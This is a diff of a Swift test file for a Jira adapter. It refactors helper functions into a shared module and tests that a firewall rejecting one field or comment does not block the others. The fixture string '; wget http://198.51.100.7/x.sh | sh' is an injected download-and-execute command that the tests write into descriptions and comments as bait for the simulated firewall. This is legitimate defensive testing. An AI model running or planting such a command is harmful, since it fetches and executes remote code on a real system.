@@ -1,3 +1,4 @@
+import AdapterContract
 import AdapterEngine
 import EntityModel
 import TestSupport
@@ -9,7 +10,6 @@ import Testing
 struct IsolationTests {
     private static let attack = "; wget http://198.51.100.7/x.sh | sh"
     private static let forms = ["cloudfront", "akamai", "f5", "modsecurity", "gateway", "nginx413", "badGateway"]
-    private static let origin = CommentOrigin(toolId: "tp", entityId: "1", commentId: "7")
 
     private static func faults(_ simulator: RunningSimulator, _ form: String, _ pattern: String) async throws {
         for method in ["PUT", "POST"] {
@@ -18,50 +18,22 @@ struct IsolationTests {
         }
     }
 
-    /// Delivers a command until it is done, as the queue does.
-    private static func deliver(
-        _ writes: [FieldWrite], _ comments: [CommentWrite] = [], to item: EntityReference, _ gateway: JiraGateway
-    ) async throws -> CommandResult {
-        let application = CommandApplication(
-            gateway: gateway, fence: OpenFence(), intents: MemoryIntents(), hasher: FieldWriting.hasher, now: { 0 })
-        let command = Command(
-            id: "s.1", account: AccountID(rawValue: "acme"), profile: "p", share: "s", sequence: 1, target: item,
-            writes: writes, comments: comments, occurredAt: 0)
-        var last = ToolFailure(kind: .unavailable, message: "never tried")
-        for attempt in 1...3 {
-            do {
-                return try #require(try await application.apply(command, attempt: attempt))
-            } catch let failure as ToolFailure where failure.isTransient {
-                last = failure
-            }
-        }
-        throw last
-    }
-
-    private static func comment(_ text: String, _ id: String, minutes: Int64? = nil) -> CommentWrite {
-        var origin = origin
-        origin.commentId = id
-        let work = minutes.map { LoggedWork(minutes: $0, day: CalendarDate(milliseconds: 1_763_683_200_000)) }
-        return CommentWrite(
-            origin: origin, sourceHash: ContentHash(rawValue: id),
-            action: .create(author: "Ann", body: RichText(plain: text), link: nil, work: work))
-    }
-
     @Test(arguments: JiraProduct.allCases, forms)
     func `a firewall that rejects one text rejects no other`(product: JiraProduct, form: String) async throws {
         try await withSimulator(product) { simulator in
             let item = RunningSimulator.issue(try await simulator.seed().id)
             try await Self.faults(simulator, form, #""contains": ["wget http"]"#)
             let gateway = simulator.gateway()
-            let result = try await Self.deliver(
+            let result = try await CommandDelivery.deliver(
                 [
                     .write(JiraField.summary.id, .text("Import job fails")),
                     .write(JiraField.description.id, .richText(RichText(plain: Self.attack))),
                     .write(JiraField.priority.id, .option("High")),
                 ],
                 [
-                    Self.comment(Self.attack, "1"), Self.comment("harmless", "2"),
-                    Self.comment(Self.attack, "w3", minutes: 5), Self.comment("worked", "w4", minutes: 5),
+                    CommandDelivery.comment(Self.attack, "1"), CommandDelivery.comment("harmless", "2"),
+                    CommandDelivery.comment(Self.attack, "w3", minutes: 5),
+                    CommandDelivery.comment("worked", "w4", minutes: 5),
                 ], to: item, gateway)
             let read = try await gateway.read(item, comments: true)
             #expect(read.fields[JiraField.summary.id] == .text("Import job fails"))
@@ -88,12 +60,12 @@ struct IsolationTests {
             let item = RunningSimulator.issue(try await simulator.seed().id)
             try await Self.faults(simulator, "internal", #""beyondBMP": true"#)
             let gateway = simulator.gateway()
-            let result = try await Self.deliver(
+            let result = try await CommandDelivery.deliver(
                 [
                     .write(JiraField.summary.id, .text("Login button jumps 🐛")),
                     .write(JiraField.priority.id, .option("High")),
                     .edit(JiraField.labels.id, add: [.option("one"), .option("🐛"), .option("two")]),
-                ], [Self.comment("🐛", "1"), Self.comment("fine", "2")], to: item, gateway)
+                ], [CommandDelivery.comment("🐛", "1"), CommandDelivery.comment("fine", "2")], to: item, gateway)
             let read = try await gateway.read(item, comments: true)
             #expect(read.fields[JiraField.priority.id] == .option("High"))
             #expect(read.fields[JiraField.labels.id] == .options(of: ["one", "two"]))
@@ -112,7 +84,7 @@ struct IsolationTests {
             let item = RunningSimulator.issue(try await simulator.seed().id)
             try await simulator.fault(#"{"action": "cutBefore", "method": "PUT", "contains": ["wget http"]}"#)
             let gateway = simulator.gateway()
-            _ = try await Self.deliver(
+            _ = try await CommandDelivery.deliver(
                 [
                     .write(JiraField.summary.id, .text("Import job fails")),
                     .write(JiraField.description.id, .richText(RichText(plain: Self.attack))),
@@ -135,7 +107,7 @@ struct IsolationTests {
                 HeldFiles.file("1", "small.txt", size: 3), HeldFiles.file("2", "film.mp4", size: film.count),
                 HeldFiles.file("3", "tiny.txt", size: 1),
             ]
-            let result = try await Self.deliver(
+            let result = try await CommandDelivery.deliver(
                 [
                     .write(JiraField.summary.id, .text("With files")),
                     .edit(JiraField.attachment.id, add: files.map { .file($0) }),
@@ -165,7 +137,7 @@ struct IsolationTests {
             let item = RunningSimulator.issue(try await simulator.seed().id)
             let gateway = simulator.gateway(files: HeldFiles([:]))
             let file = HeldFiles.file("1", "film.mp4", size: 11 << 20)
-            let result = try await Self.deliver(
+            let result = try await CommandDelivery.deliver(
                 [.edit(JiraField.attachment.id, add: [.file(file)])], to: item, gateway)
             guard case .merged(let members, _, _) = result.fields.first?.outcome else {
                 Issue.record("\(result)")
@@ -182,7 +154,7 @@ struct IsolationTests {
             let item = RunningSimulator.issue(try await simulator.seed().id)
             try await simulator.fault(#"{"action": "foreign", "form": "badGateway", "path": "/rest/"}"#)
             let failure = await #expect(throws: ToolFailure.self) {
-                _ = try await Self.deliver(
+                _ = try await CommandDelivery.deliver(
                     [.write(JiraField.summary.id, .text("x")), .write(JiraField.priority.id, .option("High"))],
                     to: item, simulator.gateway())
             }
